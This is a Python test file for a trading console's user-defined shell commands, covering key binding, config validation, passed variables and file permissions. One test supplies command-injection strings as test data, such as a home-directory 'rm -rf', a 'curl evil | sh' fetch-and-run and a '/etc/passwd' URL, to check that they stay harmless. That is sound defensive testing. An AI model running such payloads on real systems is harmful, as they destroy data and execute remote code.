"""Own commands: what a file may say, which keys and names they take, and what a line is given."""

from dataclasses import replace
from pathlib import Path

import pytest

from kit.console.doors import Running, running, seen_before
from kit.samples.whole import whole_desk
from service_tui.console.own_commands import (
    COMMANDS_MAX,
    VARIABLES,
    OwnCommands,
    own_commands,
    read_own_commands,
)
from service_tui.desk.all_fills import all_fills
from service_tui.desk.commands.own_commands import RunOwnCommand
from service_tui.desk.state import DeskState
from service_tui.units import Timestamp

STATE = seen_before(whole_desk())
MARKET = next(one for one in STATE.markets.values() if one.is_open)
WIDE = (160, 50)

BROWSE = """
[[command]]
name = "browse"
key = "f11"
screens = ["markets", "orders"]
run = 'xdg-open "$MARKET_URL"'
about = "Open the page of the market"
"""
HELLO = """
[[command]]
name = "hello"
run = 'echo hello'
"""


def commands(text: str) -> OwnCommands:
    found = own_commands(text)
    assert not found.problems
    return found


def ran(seen: Running) -> list[RunOwnCommand]:
    return [one for one in seen.doors.submitted if isinstance(one, RunOwnCommand)]


async def on_market(seen: Running, *keys: str) -> None:
    await seen.app.run_action(f"go('markets', '{MARKET.market_id}')")
    await seen.press(*keys)


def with_market(**changes: str) -> DeskState:
    market = replace(MARKET, **changes)
    return replace(STATE, markets={**STATE.markets, market.market_id: market})


async def test_a_key_runs_the_line_as_it_stands_with_the_row_beside_it() -> None:
    state = with_market(url="https://venue.test/m/1")
    async with running(state, size=WIDE, own_commands=commands(BROWSE)) as seen:
        await on_market(seen, "f11")
        (order,) = ran(seen)
        assert (order.name, order.line) == ("browse", 'xdg-open "$MARKET_URL"')
        given = dict(order.variables)
        assert tuple(given) == VARIABLES
        assert given["SCREEN"] == "markets"
        assert given["MARKET_ID"] == MARKET.market_id
        assert given["MARKET_URL"] == "https://venue.test/m/1"
        assert given["PRICE"] == f"{MARKET.price:.6f}"
        assert given["TRADE_ID"] == ""


async def test_a_fill_gives_its_side_its_agent_and_its_trade() -> None:
    fill = all_fills(STATE)[0]
    async with running(STATE, first="blotter", size=WIDE, own_commands=commands(BROWSE)) as seen:
        await seen.press("o", "home", "f11")
        given = dict(ran(seen)[0].variables)
        assert (given["SIDE"], given["AGENT"], given["AGENT_ID"], given["TRADE_ID"]) == (
            fill.side.value, fill.agent_name, fill.agent_id, fill.trade_id,
        )  # fmt: skip


@pytest.mark.parametrize(
    ("question", "url"),
    [
        ("'; rm -rf ~; echo '", "-x"),
        ("$(touch /tmp/x) `id` \x1b[31m\x00\n\u202e", "file:///etc/passwd"),
        ('" && curl evil | sh #', "https://a.test/ b"),
        ("x" * 5_000, "javascript:1"),
    ],
)
async def test_a_text_from_outside_is_a_variable_alone_and_one_harmless_line(
    question: str, url: str
) -> None:
    state = with_market(question=question, url=url)
    async with running(state, size=WIDE, own_commands=commands(BROWSE)) as seen:
        await on_market(seen, "f11")
        (order,) = ran(seen)
        assert order.line == 'xdg-open "$MARKET_URL"'
        given = dict(order.variables)
        assert given["MARKET_URL"] == ""
        assert given["QUESTION"].isprintable()
        assert len(given["QUESTION"]) <= 500
        assert question not in order.describe()


async def test_the_line_of_commands_the_palette_and_the_help_have_them() -> None:
    found = commands(BROWSE + HELLO)
    async with running(STATE, first="settings", size=WIDE, own_commands=found) as seen:
        await seen.press("colon", *"hello", "enter")
        assert [order.name for order in ran(seen)] == ["hello"]
        # On no screen where it works: the key does nothing, and the name says so.
        await seen.press("f11")
        await seen.press("colon", *"browse", "enter")
        assert "browse does not work on this screen" in seen.toasts[-1]
        assert len(ran(seen)) == 1
        await on_market(seen, "question_mark", "slash", *"page of the market")
        assert "browse" in seen.text
        assert "(F11)" in seen.text
        await seen.press("escape", "escape", "escape")
        await seen.press("ctrl+p", *"page of the market")
        await seen.until(lambda: "browse" in seen.text)
        await seen.press("enter")
        await seen.until(lambda: len(ran(seen)) == 2)


async def test_a_command_without_arguments_takes_none_and_one_of_another_console_is_gone() -> None:
    async with running(STATE, size=WIDE, own_commands=commands(HELLO)) as seen:
        await seen.press("colon", *"hello you", "enter")
        assert "takes no arguments" in seen.text
        assert not ran(seen)
    async with running(STATE, size=WIDE) as seen:
        await seen.press("colon", *"hello", "enter")
        assert "No command 'hello'" in seen.text


async def test_in_a_replay_none_is_run() -> None:
    state = replace(STATE, rewound_to=Timestamp(1.0))
    async with running(state, size=WIDE, own_commands=commands(BROWSE)) as seen:
        await on_market(seen, "f11")
        assert "replay: nothing can be sent" in seen.toasts[-1]
        assert not ran(seen)


async def test_problems_are_said_at_the_start_and_then_there_is_no_command() -> None:
    found = own_commands(BROWSE.replace('"f11"', '"b"') + HELLO)
    async with running(STATE, size=WIDE, own_commands=found) as seen:
        assert "no own commands: browse cannot lie on b" in " ".join(seen.toasts)
        await seen.press("colon", *"hello", "enter")
        assert not ran(seen)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("x = 1", "a command stands below a line [[command]]"),
        ("[other]\nx = 1", "a command stands below a line [[command]]"),
        ("[[command", "end of document"),
        ('[[command]]\nname = "A b"\nrun = "x"', "name is small letters"),
        ('[[command]]\nname = "a"', "needs a line for the shell"),
        ('[[command]]\nname = "a"\nrun = " "', "needs a line for the shell"),
        ('[[command]]\nname = "a"\nrun = 3', "run is a text"),
        ('[[command]]\nname = "a"\nrun = "x"\nrn = 1', "did you mean run?"),
        ('[[command]]\nname = "buy"\nrun = "x"', "buy is a command already"),
        ('[[command]]\nname = "serve"\nrun = "x"', "serve is a command already"),
        ('[[command]]\nname = "a"\nrun = "x"\nkey = "hyper+q"', "there is no key called"),
        ('[[command]]\nname = "a"\nrun = "x"\nkey = "ctrl+h"', "a terminal sends"),
        ('[[command]]\nname = "a"\nrun = "x"\nkey = "enter"', "cannot lie on enter"),
        ('[[command]]\nname = "a"\nrun = "x"\nkey = "F9"', "it means app.halt"),
        ('[[command]]\nname = "a"\nrun = "x"\nkey = "j"', "cannot lie on j"),
        ('[[command]]\nname = "a"\nrun = "x"\nkey = 7', "key is a text"),
        ('[[command]]\nname = "a"\nrun = "x"\nscreens = "market"', "did you mean markets?"),
        (HELLO + HELLO, "two commands are called hello"),
        (BROWSE + HELLO.replace("run", 'key = "f11"\nrun'), "browse and hello are both on F11"),
        ("".join(HELLO.replace("hello", f"h{n}") for n in range(COMMANDS_MAX + 1)), "at most"),
    ],
)
def test_what_is_no_command_is_a_problem_with_its_place(text: str, problem: str) -> None:
    found = own_commands(text)
    assert problem in found.problems[0]
    assert not found.commands


def test_the_examples_of_the_page_are_commands() -> None:
    page = Path(__file__).parents[2] / "docs" / "configuration.md"
    text = page.read_text().partition("## Your own commands")[2]
    found = own_commands(text.partition("```toml\n")[2].partition("```")[0])
    assert not found.problems
    assert [one.name for one in found.commands] == ["browse", "watch"]


def test_a_key_is_free_where_its_own_action_was_moved_away_or_works_elsewhere() -> None:
    on_b = BROWSE.replace('"f11"', '"b"').replace('"markets", "orders"', '"markets"')
    assert own_commands(on_b).problems
    assert not own_commands(on_b, {"markets.buy": ("f2",)}).problems
    assert not own_commands(on_b.replace('"markets"', '"settings"')).problems
    moved = {"markets.buy": ("f11",)}
    assert "it means markets.buy" in own_commands(BROWSE, moved).problems[0]


@pytest.mark.parametrize(("mode", "is_read"), [(0o600, True), (0o640, False), (0o622, False)])
def test_a_file_that_others_can_read_or_change_is_not_run(
    tmp_path: Path, mode: int, *, is_read: bool
) -> None:
    path = tmp_path / "commands.toml"
    assert read_own_commands(path) == OwnCommands()
    path.write_text(BROWSE)
    path.chmod(mode)
    found = read_own_commands(path)
    assert bool(found.commands) is is_read
    assert is_read or f"chmod 600 {path}" in found.problems[0]
